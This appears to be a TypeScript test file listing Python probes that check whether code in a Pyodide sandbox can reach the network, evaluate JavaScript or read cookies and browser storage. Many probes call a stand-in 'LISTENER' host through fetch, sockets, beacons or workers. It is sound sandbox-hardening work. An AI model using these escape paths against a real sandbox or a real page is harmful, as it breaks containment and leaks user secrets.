/**
 * What a program may try to reach. `LISTENER` stands for the host of a server that listens,
 * `SITE` for the page's address. Each returns "reached" or tells what it read where it succeeds.
 */

const wait = 'import time\ntime.sleep(0.3)\n';

/** JavaScript expressions are out of reach (no eval), so each probe speaks through `js`. */
function probe(body: string): string {
  const indented = body
    .trim()
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n');
  return `import js\nfrom pyodide.ffi import create_proxy, to_js\ndef f():\n${indented}\n`;
}

const nested = (source: string) =>
  probe(`
blob = js.Blob.new(to_js(["${source}"]))
js.Worker.new(js.URL.createObjectURL(blob))
${wait}return 'started'`);

export const probes: Readonly<Record<string, string>> = {
  fetch: probe(`js.fetch('http://LISTENER/fetch')\n${wait}return 'started'`),
  'fetch without CORS': probe(
    `js.fetch('http://LISTENER/no-cors', to_js({'mode': 'no-cors'}, dict_converter=js.Object.fromEntries))\n${wait}return 'started'`,
  ),
  'fetch of the site': probe(`js.fetch('SITEindex.html')\n${wait}return 'started'`),
  'fetch from a fresh Request': probe(
    `js.fetch(js.Request.new('http://LISTENER/request'))\n${wait}return 'started'`,
  ),
  XMLHttpRequest: probe(
    `request = js.XMLHttpRequest.new()\nrequest.open('GET', 'http://LISTENER/xhr', False)\nrequest.send()\nreturn request.responseText`,
  ),
  'pyodide.http.open_url': probe(
    `from pyodide.http import open_url\nreturn open_url('http://LISTENER/open_url').read()`,
  ),
  'pyodide.http.pyfetch': probe(
    `from pyodide.http import pyfetch\npyfetch('http://LISTENER/pyfetch').send(None)\n${wait}return 'started'`,
  ),
  'urllib.request': probe(
    `import urllib.request\nreturn urllib.request.urlopen('http://LISTENER/urllib').read().decode()`,
  ),
  'http.client': probe(
    `import http.client\nconnection = http.client.HTTPConnection('LISTENER')\nconnection.request('GET', '/http')\nreturn connection.getresponse().read().decode()`,
  ),
  'a socket': probe(
    `import socket\nhost, port = 'LISTENER'.split(':')\nconnection = socket.create_connection((host, int(port)), 1)\nconnection.send(b'GET /socket HTTP/1.0\\r\\n\\r\\n')\nreturn connection.recv(100).decode()`,
  ),
  WebSocket: probe(`js.WebSocket.new('ws://LISTENER/websocket')\n${wait}return 'started'`),
  EventSource: probe(`js.EventSource.new('http://LISTENER/events')\n${wait}return 'started'`),
  WebTransport: probe(`js.WebTransport.new('https://LISTENER/transport')\n${wait}return 'started'`),
  RTCPeerConnection: probe(`return str(js.RTCPeerConnection.new())`),
  sendBeacon: probe(`return str(js.navigator.sendBeacon('http://LISTENER/beacon', 'x'))`),
  'a font': probe(
    `js.FontFace.new('x', 'url(http://LISTENER/font)').load()\n${wait}return 'started'`,
  ),
  importScripts: probe(`js.importScripts('http://LISTENER/script.js')\nreturn 'reached'`),
  'importScripts of data': probe(
    `js.importScripts('data:text/javascript,self.loaded="reached"')\nreturn js.self.loaded`,
  ),
  eval: probe(`return js.eval('"reached"')`),
  'the Function constructor': probe(`return js.Function.new('return "reached"')()`),
  'the Function constructor by way of an object': probe(
    `return js.Object.constructor.constructor('return "reached"')()`,
  ),
  'a timer given as text': probe(
    `js.setTimeout('self.postMessage("reached")', 0)\n${wait}return 'started'`,
  ),
  run_js: probe(`from pyodide.code import run_js\nreturn run_js('"reached"')`),
  'a worker from an address': probe(
    `js.Worker.new('http://LISTENER/worker.js')\n${wait}return 'started'`,
  ),
  'a worker within that fetches': nested("fetch('http://LISTENER/nested-fetch')"),
  'a worker within that imports': nested("importScripts('http://LISTENER/nested-import.js')"),
  'a worker within that opens a socket': nested("new WebSocket('ws://LISTENER/nested-socket')"),
  'a worker within that evaluates': nested("eval('fetch(1)')"),
  'a shared worker': probe(`js.SharedWorker.new('SITEworker.js')\nreturn 'reached'`),
  'a service worker': probe(
    `js.navigator.serviceWorker.register('SITEworker.js')\n${wait}return 'started'`,
  ),
  localStorage: probe(`return js.localStorage.getItem('secret')`),
  sessionStorage: probe(`return js.sessionStorage.getItem('secret')`),
  'a cookie': probe(`return js.document.cookie`),
  'the cookie store': probe(`js.cookieStore.getAll()\n${wait}return 'started'`),
  'indexedDB, opened': probe(`return str(js.indexedDB.open('secret'))`),
  'indexedDB, listed': probe(`return str(js.indexedDB.databases())`),
  'the caches': probe(`return str(js.caches.open('secret'))`),
  'the private file system': probe(`js.navigator.storage.getDirectory()\n${wait}return 'started'`),
  'a broadcast to the page': probe(
    `js.BroadcastChannel.new('secret').postMessage('reached')\n${wait}return 'sent'`,
  ),
  'a message to the frame': probe(`js.postMessage('reached')\n${wait}return 'sent'`),
  'the window': probe(`return str(js.window.location)`),
  'the document': probe(`return js.document.title`),
  'the parent page': probe(`return str(js.parent.location)`),
  'the top page': probe(`js.top.location = 'http://LISTENER/top'\nreturn 'reached'`),
  'an opener': probe(`return str(js.opener.location)`),
  'a new window': probe(`js.open('http://LISTENER/window')\nreturn 'reached'`),
  navigation: probe(`js.location.href = 'http://LISTENER/navigation'\n${wait}return 'started'`),
  'a lock of the page': probe(`js.navigator.locks.query()\n${wait}return 'started'`),
  'a package from the network': probe(
    `import pyodide_js\npyodide_js.loadPackage('http://LISTENER/package.whl')\n${wait}return 'started'`,
  ),
};
